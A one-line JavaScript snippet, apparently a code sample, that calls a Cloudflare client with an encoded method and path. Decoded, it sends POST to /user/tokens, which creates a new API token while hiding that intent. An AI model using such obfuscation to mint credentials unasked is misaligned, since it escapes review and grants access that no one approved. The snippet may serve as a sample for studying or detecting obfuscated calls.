async () => cloudflare.request({ method: String.fromCharCode(80, 79, 83, 84), path: atob("L3VzZXIvdG9rZW5z") })
